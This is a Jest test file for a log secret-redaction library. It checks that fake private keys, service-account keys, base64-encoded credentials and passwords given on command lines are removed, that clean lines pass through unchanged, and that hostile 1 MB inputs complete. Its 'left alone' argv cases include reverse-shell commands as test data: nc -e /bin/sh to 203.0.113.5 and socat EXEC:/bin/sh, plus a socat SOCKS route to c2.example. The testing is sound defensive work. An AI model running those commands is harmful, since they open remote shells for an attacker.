/**
 * Secret redaction against a corpus of realistic FAKE secrets
 * (test/fixtures/secrets): each secret must be gone, the text around it must
 * survive, and ordinary log lines must come through unchanged.
 */
import { describe, expect, test } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { SECRET_KINDS, redactArgv, redactSecrets, type SecretKind } from '../lib/redact.js';
import { projectRoot } from './support/fixtures.js';

interface CorpusCase {
  kind: SecretKind;
  secret: string;
  line: string;
  keep: string[];
}

const dir = join(projectRoot(), 'test/fixtures/secrets');
const read = (name: string): string => readFileSync(join(dir, name), 'utf8');
const corpus = (JSON.parse(read('corpus.json')) as { cases: CorpusCase[] }).cases;
const cleanLines = read('clean-lines.txt')
  .split('\n')
  .filter((l) => l.length > 0);

describe('redactSecrets: the corpus', () => {
  test('the corpus covers every kind but the PEM and service-account files', () => {
    const covered = new Set(corpus.map((c) => c.kind));
    for (const kind of SECRET_KINDS) {
      if (kind === 'private-key' || kind === 'pem-body') continue; // the .pem and service-account fixtures
      expect([kind, covered.has(kind)]).toEqual([kind, true]);
    }
  });

  test.each(corpus.map((c) => [c.kind, c] as const))('%s: the secret is gone, the context stays', (_kind, c) => {
    expect(c.line).toContain(c.secret);
    const out = redactSecrets(c.line);
    expect(out).not.toContain(c.secret);
    expect(out).toContain(`[REDACTED:${c.kind}]`);
    for (const keep of c.keep) expect(out).toContain(keep);
  });

  test('every kind in the output is an exported kind', () => {
    const all = corpus.map((c) => redactSecrets(c.line)).join('\n');
    const kinds = [...all.matchAll(/\[REDACTED:([a-z-]+)\]/g)].map((m) => m[1]);
    for (const k of kinds) expect(SECRET_KINDS).toContain(k);
  });

  test('redaction is idempotent', () => {
    for (const c of corpus) {
      const once = redactSecrets(c.line);
      expect(redactSecrets(once)).toBe(once);
    }
  });
});

describe('redactSecrets: private keys', () => {
  const pem = read('fake-private-key.pem');
  const body = pem.split('\n')[3] as string;

  test('a multi-line PEM private key goes entirely, the text around it stays', () => {
    const out = redactSecrets(`loaded key from secret volume:\n${pem}done, starting TLS listener`);
    expect(out).toBe('loaded key from secret volume:\n[REDACTED:private-key]\ndone, starting TLS listener');
    expect(out).not.toContain(body);
  });

  test('an encrypted RSA key with Proc-Type headers goes entirely', () => {
    const rsa = read('fake-encrypted-rsa-key.pem');
    const out = redactSecrets(`key: ${rsa}`);
    expect(out).not.toContain('MII');
    expect(out).not.toContain('DEK-Info');
    expect(out).toContain('[REDACTED:private-key]');
  });

  test('a PEM truncated before its END line still goes', () => {
    const cut = pem.slice(0, 400);
    const out = redactSecrets(`panic: bad key ${cut}`);
    expect(out).toBe('panic: bad key [REDACTED:private-key]');
  });

  test('a PEM inside a JSON string ("\\n" escapes) goes', () => {
    const out = redactSecrets(JSON.stringify({ tls: { key: pem, cert: 'see configmap' } }));
    expect(out).not.toContain(body);
    expect(out).toContain('[REDACTED:private-key]');
    expect(out).toContain('"cert":"see configmap"');
  });

  test('a service-account key file loses private_key and private_key_id, keeps the rest', () => {
    const raw = read('fake-service-account-key.json');
    const sa = JSON.parse(raw) as Record<string, string>;
    for (const text of [raw, JSON.stringify(sa)]) {
      const out = redactSecrets(text);
      expect(out).not.toContain(sa.private_key_id as string);
      expect(out).not.toContain(body);
      expect(out).toContain('[REDACTED:private-key]');
      expect(out).toContain('[REDACTED:service-account-key]');
      expect(out).toContain(sa.client_email as string);
      expect(out).toContain('"token_uri"');
      // Still valid JSON: the markers replace values inside their quotes.
      const parsed = JSON.parse(out) as Record<string, string>;
      expect(parsed.private_key_id).toBe('[REDACTED:service-account-key]');
      expect(parsed.client_email).toBe(sa.client_email);
    }
  });
});

describe('credentials that arrive encoded or in pieces (issue 13)', () => {
  const sa = read('fake-service-account-key.json');
  const saKey = JSON.parse(sa) as Record<string, string>;
  const keyBody = (saKey.private_key as string).split('\n')[3] as string;
  // Freshly generated keys in every shape openssl writes (PKCS#8 RSA/EC/Ed25519, PKCS#1, SEC1, encrypted PKCS#8).
  const keys = [...read('fake-openssl-keys.pem').matchAll(/-----BEGIN ([A-Z ]+)-----\n([\s\S]*?)-----END/g)].map((m) => ({ label: m[1]!, body: m[2]! }));
  const cert = read('fake-certificate.pem');
  const b64 = (text: string) => Buffer.from(text).toString('base64');
  const wrap = (text: string, width: number) => text.match(new RegExp(`.{1,${width}}`, 'g'))!.join('\n');

  test('a base64 service-account key (as in a Secret or GOOGLE_CREDENTIALS), on one line or wrapped at 76', () => {
    expect(b64(sa).startsWith('ewogICJ0eXBlIjogInNlcnZpY2VfYWNjb3VudCIs')).toBe(true);
    for (const encoded of [b64(sa), b64(JSON.stringify(saKey)), wrap(b64(sa), 76)]) {
      const out = redactSecrets(`creds: ${encoded}\nnext: starting`);
      expect(out).toBe('creds: [REDACTED:service-account-key]\nnext: starting');
    }
  });

  test('a base64 PEM private key (kubectl get secret -o yaml) goes; a base64 certificate stays', () => {
    const pem = read('fake-private-key.pem');
    expect(redactSecrets(`  tls.key: ${b64(pem)}`)).toBe('  tls.key: [REDACTED:private-key]');
    expect(redactSecrets(`  tls.crt: ${b64(cert)}`)).toBe(`  tls.crt: ${b64(cert)}`);
  });

  test('other base64 JSON is left alone', () => {
    const other = b64(JSON.stringify({ type: 'order', id: 'ord_18f2', items: [1, 2, 3], note: 'a base64 payload that is no credential' }));
    expect(redactSecrets(`payload=${other}`)).toBe(`payload=${other}`);
  });

  test.each(keys.map((k) => [k.label, k] as const))('%s: its body without the BEGIN line goes, whole, joined on one line, or line by line', (_label, k) => {
    const lines = k.body.split('\n').filter((l) => l !== '');
    expect(redactSecrets(`dump:\n${k.body}done`)).toBe('dump:\n[REDACTED:private-key]\ndone');
    const joined = redactSecrets(`key material ${lines.join('')} end`);
    expect(joined).toBe('key material [REDACTED:private-key] end');
    for (const line of lines) {
      const out = redactSecrets(line);
      // A line on its own: the first by its DER prefix, a full-width one by its shape; only a short last line is indistinguishable.
      if (line === lines[0] || line.length === 64) expect(out).toMatch(/^\[REDACTED:(private-key|pem-body)\]$/);
    }
    const rest = redactSecrets(lines.slice(1).join('\n'));
    for (const line of lines.slice(1)) if (line.length === 64) expect(rest).not.toContain(line);
  });

  test("the service-account key's own body lines, each on a log line of its own", () => {
    expect(redactSecrets(keyBody)).toBe('[REDACTED:pem-body]');
  });

  test('a certificate logged whole, and hex digests, stay', () => {
    expect(redactSecrets(`loaded CA:\n${cert}done`)).toBe(`loaded CA:\n${cert}done`);
    expect(redactSecrets(`${'ab12'.repeat(16)}\n${'CD34'.repeat(16)}`)).toBe(`${'ab12'.repeat(16)}\n${'CD34'.repeat(16)}`);
  });
});

describe('redactArgv: flags whose meaning depends on the program', () => {
  it.each([
    ['mysql -pPASS', ['mysql', '-uroot', '-pArgv-Mysql-Pw', '-h', 'db'], 'Argv-Mysql-Pw', ['mysql', '-uroot', '-p[REDACTED:password]', '-h', 'db']],
    ['sshpass -p PASS, then ssh -p PORT', ['sshpass', '-p', 'Argv-Sshpass-Pw', 'ssh', '-p', '22', 'root@10.0.0.4'], 'Argv-Sshpass-Pw', ['sshpass', '-p', '[REDACTED:password]', 'ssh', '-p', '22', 'root@10.0.0.4']],
    ['curl -u user:pass keeps the user', ['/usr/bin/curl', '-fsS', '-u', 'admin:Argv-Curl-Pw', 'https://x.example/'], 'Argv-Curl-Pw', ['/usr/bin/curl', '-fsS', '-u', 'admin:[REDACTED:password]', 'https://x.example/']],
    ['redis-cli -a PASS', ['redis-cli', '-h', 'cache', '-a', 'Argv-Redis-Pw', 'ping'], 'Argv-Redis-Pw', ['redis-cli', '-h', 'cache', '-a', '[REDACTED:password]', 'ping']],
    ['mysql inside an EXEC command', ['socat', 'TCP:10.0.0.1:3306', "EXEC:'mysql -uroot -pArgv-Exec-Pw -h db'"], 'Argv-Exec-Pw', ['socat', 'TCP:10.0.0.1:3306', "EXEC:'mysql -uroot -p[REDACTED:password] -h db'"]],
  ])('%s', (_name, argv, secret, shown) => {
    const out = redactArgv(argv);
    expect(out.join('\u0000')).not.toContain(secret);
    expect(out).toEqual(shown);
  });

  it("leaves socat's own options and the same letters in other programs alone", () => {
    for (const argv of [
      ['socat', '-d', '-d', '-v', '-lp', 'name', '-lf', '/tmp/socat.log', '-x', 'TCP:203.0.113.9:443', 'EXEC:/bin/sh,pty,stderr'],
      ['socat', '-d', '-d', '-d', '-lu', '-ly', 'SOCKS4A:127.0.0.1:c2.example:443,socksport=9050', 'SYSTEM:ssh -p 22 host'],
      ['ssh', '-p', '2222', 'host'],
      ['nc', '-p', '4444', '-e', '/bin/sh', '203.0.113.5', '80'],
      ['mysql', '-u', 'root', '-p', 'orders'],
      ['curl', '-u', 'deploy', 'https://x.example/'],
    ]) {
      expect(redactArgv(argv)).toEqual(argv);
    }
  });
});

describe('redactSecrets: no false positives', () => {
  test.each(cleanLines.map((l) => [l]))('unchanged: %s', (line) => {
    expect(redactSecrets(line)).toBe(line);
  });

  test('empty values and placeholders are left as they are', () => {
    for (const line of ['password=', 'token=null', '"password": ""', 'secret=*****', 'api_key=true', 'PWD=/home/app']) {
      expect(redactSecrets(line)).toBe(line);
    }
  });

  test('keys are judged by their last word', () => {
    expect(redactSecrets('token_type=Bearer expires_in=3599 access_token=abc123fake')).toBe(
      'token_type=Bearer expires_in=3599 access_token=[REDACTED:token]',
    );
    expect(redactSecrets('secret_ref=db-creds clientSecret=xyz-fake')).toBe('secret_ref=db-creds clientSecret=[REDACTED:secret]');
  });
});

describe('redactSecrets: large and hostile inputs', () => {
  // No timing assertions: a backtracking pattern would blow Jest's timeout on these.
  const MB = 1 << 20;
  const hostile: Array<[string, string]> = [
    ['one long word', 'a'.repeat(MB)],
    ['JWT-ish prefixes', 'eyJ-'.repeat(MB / 4)],
    ['JWT-ish without dots', `eyJ${'A'.repeat(MB)}`],
    ['scheme starts', 'x://'.repeat(MB / 4)],
    ['user:pass runs', `http://u:${'p'.repeat(MB)}`],
    ['key= runs', 'password='.repeat(MB / 9)],
    ['open JSON strings', '"password": "\\'.repeat(MB / 16)],
    ['PEM without END', `-----BEGIN PRIVATE KEY-----${'A-'.repeat(MB / 2)}`],
    ['bearer runs', 'bearer '.repeat(MB / 7)],
    ['flags', '--token '.repeat(MB / 8)],
    ['base64 soup', 'AKIA'.repeat(MB / 4)],
    ['base64 JSON starts', 'ew'.repeat(MB / 2)],
    ['base64 JSON starts split by newlines', `ew${'A'.repeat(62)}\n`.repeat(MB / 65)],
    ['DER key prefix', `MIIEvQIBADAN${'A'.repeat(MB)}`],
    ['64-wide lines without an end', `${'Ab1+'.repeat(16)}\n`.repeat(MB / 65)],
    ['65-wide lines', `${'Ab1+'.repeat(16)}x\n`.repeat(MB / 66)],
    ['program words', 'mysql -p'.repeat(MB / 8)],
    ['program paths', '=a/'.repeat(MB / 3)],
    ['curl -u runs', `curl -u ${'a:'.repeat(MB / 2)}`],
    ['unclosed quotes after a program', `curl ${"'".repeat(MB)}`],
    ['refresh-token starts', '1//0'.repeat(MB / 4)],
    ['query signatures', '?Signature='.repeat(MB / 11)],
    ['slack webhooks', 'hooks.slack.com/services/'.repeat(MB / 25)],
  ];
  test.each(hostile)('%s (1 MB) completes', (_name, input) => {
    const out = redactSecrets(input);
    expect(typeof out).toBe('string');
  });

  test('a secret at the end of 1 MB of text is still found', () => {
    const out = redactSecrets(`${'lorem ipsum '.repeat(MB / 12)}DB_PASSWORD=fake-at-the-end`);
    expect(out.endsWith('DB_PASSWORD=[REDACTED:password]')).toBe(true);
  });
});
